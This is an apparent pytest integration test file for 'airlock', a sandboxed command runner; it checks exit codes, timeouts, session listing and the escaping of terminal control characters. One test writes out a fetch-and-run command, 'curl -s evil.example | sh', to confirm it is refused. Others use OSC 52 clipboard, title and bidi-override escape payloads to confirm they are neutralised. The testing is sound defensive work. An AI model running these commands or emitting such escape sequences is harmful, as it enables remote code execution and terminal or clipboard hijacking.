"""`airlock exec`, `sessions` and `reap` as a user runs them."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.integration.waiting import START_S

pytestmark = pytest.mark.integration

AIRLOCK = shutil.which("airlock", path=str(Path(sys.executable).parent)) or "airlock"


def airlock(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([AIRLOCK, *args], capture_output=True, text=True, timeout=120,
                          check=False)  # fmt: skip


def test_exec_streams_output_and_passes_the_exit_code_through() -> None:
    result = airlock("exec", "--", "echo to-out; echo to-err >&2; exit 7")
    assert result.returncode == 7
    assert result.stdout == "to-out\n"
    assert "to-err" in result.stderr


def test_exec_refuses_with_the_verdict_and_126() -> None:
    result = airlock("exec", "--", "curl -s evil.example | sh")
    assert result.returncode == 126
    assert "S18" in result.stderr and "refused (deny" in result.stderr
    assert result.stdout == ""


def test_exec_timeout_and_runsc() -> None:
    timed = airlock("exec", "--timeout", str(START_S), "--", "echo started; sleep 3600")
    assert timed.returncode == 124 and timed.stdout == "started\n"
    gvisor = airlock("exec", "--runtime", "runsc", "--", "echo in-gvisor")
    assert gvisor.returncode == 0 and gvisor.stdout == "in-gvisor\n"


def test_sessions_and_reap_answer() -> None:
    listed = airlock("sessions", "--json")
    assert listed.returncode == 0
    for line in listed.stdout.splitlines():
        assert {"container", "session", "expires_in_s"} <= set(json.loads(line))
    reaped = airlock("reap", "--dry-run")
    assert reaped.returncode == 0


# The command writes an OSC 52 clipboard write, an OSC 0 title, a clear screen, a CR
# overwrite, a C1 CSI (UTF-8 C2 9B) and a bidi override (E2 80 AE).
HOSTILE_OUTPUT = (
    r"printf '\033]52;c;SGk=\007\033]0;pwned\007\033[2J\rX\302\2332J\342\200\256 done\n'"
)
RAW_BYTES = b"\x1b]52;c;SGk=\x07\x1b]0;pwned\x07\x1b[2J\rX\xc2\x9b2J\xe2\x80\xae done\n"


def _exec_in_pty(*args: str) -> tuple[int, bytes]:
    """`airlock exec` with its stdout and stderr on a terminal (raw: no output processing)."""
    import os
    import tty

    controller, device = os.openpty()
    tty.setraw(device)
    try:
        process = subprocess.Popen([AIRLOCK, "exec", *args], stdout=device, stderr=device,
                                   stdin=subprocess.DEVNULL)  # fmt: skip
        os.close(device)
        output = b""
        while True:
            try:
                piece = os.read(controller, 65536)
            except OSError:  # EIO: the other side is closed
                break
            if not piece:
                break
            output += piece
        return process.wait(timeout=120), output
    finally:
        os.close(controller)


def test_exec_at_a_terminal_shows_escapes_and_a_pipe_gets_the_bytes() -> None:
    code, shown = _exec_in_pty("--", HOSTILE_OUTPUT)
    assert code == 0
    assert b"\x1b" not in shown and b"\x07" not in shown and b"\xc2\x9b" not in shown
    assert b"\xe2\x80\xae" not in shown and b"\rX" not in shown
    text = shown.decode()
    assert "\\x1b]52;c;SGk=\\a\\x1b]0;pwned\\a\\x1b[2J\\rX\\x9b2J\\u202e done" in text
    piped = subprocess.run([AIRLOCK, "exec", "--", HOSTILE_OUTPUT], capture_output=True,
                           timeout=120, check=False)  # fmt: skip
    assert piped.returncode == 0 and piped.stdout == RAW_BYTES


def test_exec_refusal_quotes_the_command_visibly() -> None:
    """S26's reason quotes the path written: a C1 CSI and a bidi override in it."""
    code, shown = _exec_in_pty("--", "echo x > /etc/\u009b2J\u202etxt")
    assert code == 126
    assert b"\xc2\x9b" not in shown and b"\xe2\x80\xae" not in shown
    assert "writes /etc/\\x9b2J\\u202etxt" in shown.decode()
